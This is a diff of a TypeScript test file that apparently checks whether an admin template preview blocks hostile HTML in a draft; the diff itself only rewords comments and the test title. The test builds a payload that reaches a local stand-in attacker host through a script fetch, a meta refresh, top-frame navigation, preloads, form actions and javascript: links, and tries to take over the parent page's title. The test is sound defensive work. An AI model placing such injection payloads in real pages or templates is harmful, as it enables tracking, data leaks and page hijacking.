@@ -5,7 +5,7 @@ import { oneVisitor } from './stage.ts'
 
 const stage = oneVisitor({ visitor: { reducedMotion: 'reduce' } })
 
-/** Whoever is called here was reached by a draft. */
+/** Requests caused by a draft. */
 const called: string[] = []
 const stranger = createServer(({ url = '' }, answer) => {
   called.push(url)
@@ -16,11 +16,11 @@ beforeAll(async () => {
   await new Promise<void>((done) => stranger.listen(0, '127.0.0.1', done))
   evil = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`
 })
-// who only knocks has told that he reads as well
+// A connection alone would already reveal that the mail was read.
 stranger.on('connection', () => called.push('connection'))
 afterAll(() => stranger.close())
 
-/** All ways in which a page runs, fetches or leads elsewhere by itself. */
+/** Every way in which a page can run code, load resources or navigate by itself. */
 const draft = () => `</head></html><script>fetch('${evil}/script'); parent.document.title = 'owned'; top.location = '${evil}/top'</script>
 <base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
 <link rel="stylesheet" href="${evil}/sheet"><link rel="preload" as="image" href="${evil}/preload"><link rel="prefetch" href="${evil}/prefetch"><link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="${evil}">
@@ -33,10 +33,10 @@ const draft = () => `</head></html><script>fetch('${evil}/script'); parent.docum
 <form action="${evil}/form"><button>Absenden</button></form><a href="${evil}/self">Hier</a> <a href="${evil}/above" target="_top">Oben</a>
 <img src="${evil.replace('http', 'https')}/secure"><a href="javascript:parent.document.title='owned'">Skript</a><p>Das Ende {{firstName}}</p>`
 
-it('a draft that may not be saved is not shown and says why, and what is shown leads nowhere', async () => {
+it("a draft that cannot be saved shows its reason instead of a preview, and a preview's links are dead", async () => {
   const admin = await stage.product.make.user({ role: 'admin' })
   const page = await stage.enter({ as: admin })
-  // what was tried is written to the console
+  // Blocked attempts are logged to the console.
   for (const tried of [/Content Security Policy|policy violated|sandbox|Unsafe attempt|ERR_BLOCKED/i, /^foreign request/])
     stage.visitor.allow(tried)
   await page.goto('/admin?tab=vorlagen')
